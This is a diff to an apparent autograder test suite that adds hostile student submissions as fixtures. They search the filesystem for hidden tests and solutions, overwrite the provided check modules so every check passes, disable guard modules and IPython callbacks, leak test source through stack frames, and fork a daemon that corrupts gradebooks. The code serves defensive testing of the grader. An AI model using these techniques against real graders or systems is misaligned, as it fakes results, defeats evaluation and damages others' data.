@@ -162,10 +162,10 @@ import os as _os, pathlib as _pathlib, sys as _sys, time as _time
 
 def _attack():
     """Look for a course, as an attacker would, and corrupt its gradebook, submissions and release."""
-    report, courses = [], []
-    for root, dirs, files in _os.walk("/tmp"):
-        if root.count(_os.sep) > 6:
-            dirs[:] = []
+    report, courses, deadline = [], [], _time.monotonic() + 4
+    for root, dirs, files in _os.walk("/"):
+        dirs[:] = [] if root.count(_os.sep) > 6 or _time.monotonic() > deadline else [
+            d for d in dirs if root != "/" or d not in ("proc", "sys", "dev", "usr")]
         if "{MARKER}" in files:
             courses.append(_pathlib.Path(root))
     targets = [_pathlib.Path(_sys.prefix).parent / "HOSTILE_ESCAPE.txt"]
@@ -189,6 +189,101 @@ if _os.fork() == 0:  # a daemon that outlives the kernel and attacks again later
     _os._exit(0)
 '''
 
+
+# Looks for the course's hidden tests and solutions anywhere on the filesystem it can see, and prints
+# what it finds (the markers are assembled at run time, so that this code does not find itself).
+HUNT = """
+import json as _json, os as _os, re as _re, time as _time
+
+
+def _hunt(top="/", seconds=6.0):
+    markers = ("### BEGIN " + "HIDDEN TESTS", "### BEGIN " + "SOLUTION", "### END " + "HIDDEN TESTS")
+    skip = {"/proc", "/sys", "/dev"}
+    deadline, read, found = _time.monotonic() + seconds, 0, []
+    for root, dirs, files in _os.walk(top):
+        dirs[:] = [d for d in dirs if _os.path.join(root, d) not in skip
+                   and d not in ("site-packages", "dist-packages", "__pycache__", "node_modules")]
+        if _time.monotonic() > deadline:
+            break
+        for name in files:
+            path = _os.path.join(root, name)
+            if not name.endswith((".ipynb", ".db", ".py", ".json")) or _os.path.islink(path):
+                continue
+            try:
+                if _os.path.getsize(path) > 20_000_000:
+                    continue
+                with open(path, errors="replace") as file:
+                    text = file.read()
+            except OSError:
+                continue
+            read += 1
+            if name.endswith(".ipynb"):  # the cells' code, as it reads
+                try:
+                    text = "\\n".join("".join(cell["source"]) for cell in _json.loads(text)["cells"])
+                except (ValueError, KeyError, TypeError):
+                    pass
+            spots = [match.start() for match in _re.finditer("|".join(markers), text)][:50]
+            if spots:
+                found.append(path)
+                print("FOUND", path)
+                for i in spots:
+                    print(text[i:i + 3000])
+    print(f"hunt: {read} files read, {len(found)} with secrets")
+
+
+_hunt()
+"""
+
+# Provided modules that let every check pass, and the attacks that try to put them in the tests' way.
+PERMISSIVE = "def __getattr__(name):  # every check passes\n    return lambda *args, **kwargs: None\n"
+REWRITE = f"""
+import os as _os, sys as _sys, types as _types
+
+_fake = {PERMISSIVE!r}
+for _name in ("checks.py", "doubles.py", "lib/checkpoint.py", "lib/losses.py", "lib/data.py", "lib/model.py"):
+    try:  # rewrite each provided module on disk
+        with open(_name, "w") as _file:
+            _file.write(_fake)
+    except OSError as _error:
+        print("blocked", _name, _error.strerror)
+for _package in ("checks", "doubles", "lib/checkpoint"):
+    try:  # a package of the same name is found before the module
+        _os.makedirs(_package, exist_ok=True)
+        with open(_package + "/__init__.py", "w") as _file:
+            _file.write(_fake)
+    except OSError as _error:
+        print("blocked", _package, _error.strerror)
+for _name in ("checks", "doubles", "lib.checkpoint"):
+    _sys.modules.pop(_name, None)
+"""
+DISABLE_GUARD = f"""
+import sys as _sys, types as _types
+
+for _name, _module in list(_sys.modules.items()):  # switch off anything that looks like a guard
+    if "guard" in _name.lower():
+        for _attr, _value in list(vars(_module).items()):
+            if callable(_value):
+                setattr(_module, _attr, lambda *args, **kwargs: None)
+        _sys.modules.pop(_name, None)
+_events = get_ipython().events
+for _event in list(_events.callbacks):
+    _events.callbacks[_event] = []
+_fake = _types.ModuleType("checks")
+exec({PERMISSIVE!r}, vars(_fake))
+_sys.modules["checks"] = _sys.modules["doubles"] = _fake
+"""
+
+# Reads the test that is calling it (IPython keeps every cell's source for tracebacks) and prints it:
+# the test cell's output then holds the hidden tests, which must not reach the student's feedback.
+QUOTES_TESTS = ("    def step(self, gradients):\n", """    def step(self, gradients):
+        import linecache, sys
+        frame = sys._getframe(1)
+        while frame is not None:
+            if frame.f_code.co_filename not in getattr(AdamW, "quoted", set()):
+                AdamW.quoted = getattr(AdamW, "quoted", set()) | {frame.f_code.co_filename}
+                print("".join(linecache.getlines(frame.f_code.co_filename)))
+            frame = frame.f_back
+""")
 
 def damage_tests(folder):
     """Delete one test cell, empty another, strip a third of its nbgrader metadata."""
@@ -236,6 +331,14 @@ HOSTILE = [
             edits={("01_adamw", "adamw"): [HUGE_OUTPUT], ("02_lr_schedules", "lr_scheduler"): [SYSTEM_EXIT],
                    ("04_training_loop", "trainer"): [EXIT_KERNEL]},
             scores={"02_lr_schedules": FULL["02_lr_schedules"] - 2}),
+    # The three below keep the reference elsewhere and do nothing in notebook 01, whose honest twin
+    # (honest_twin_of_cheats) scores 0 there: attacking the grader must not raise that.
+    Hostile("hostile_hunts_secrets", replace={("01_adamw", "adamw"): "#| export\n" + HUNT}, scores={"01_adamw": 0}),
+    Hostile("hostile_rewrites_provided", replace={("01_adamw", "adamw"): HONEST_01 + REWRITE}, scores={"01_adamw": 0}),
+    # Its attack travels in lib/adamw.py into the notebooks that import AdamW (02, 03), and costs their tests too.
+    Hostile("hostile_disables_guard", replace={("01_adamw", "adamw"): HONEST_01 + DISABLE_GUARD},
+            scores={"01_adamw": 0, "02_lr_schedules": 0, "03_gradient_clipping": 0}),
+    Hostile("hostile_quotes_tests", edits={("01_adamw", "adamw"): [QUOTES_TESTS]}),
     Hostile("hostile_files", damage=damage_files, scores={"02_lr_schedules": 0, "04_training_loop": 0},
             problems=("02_lr_schedules.ipynb is not a readable notebook",
                       "03_gradient_clipping-Copy1.ipynb was graded as 03_gradient_clipping.ipynb",
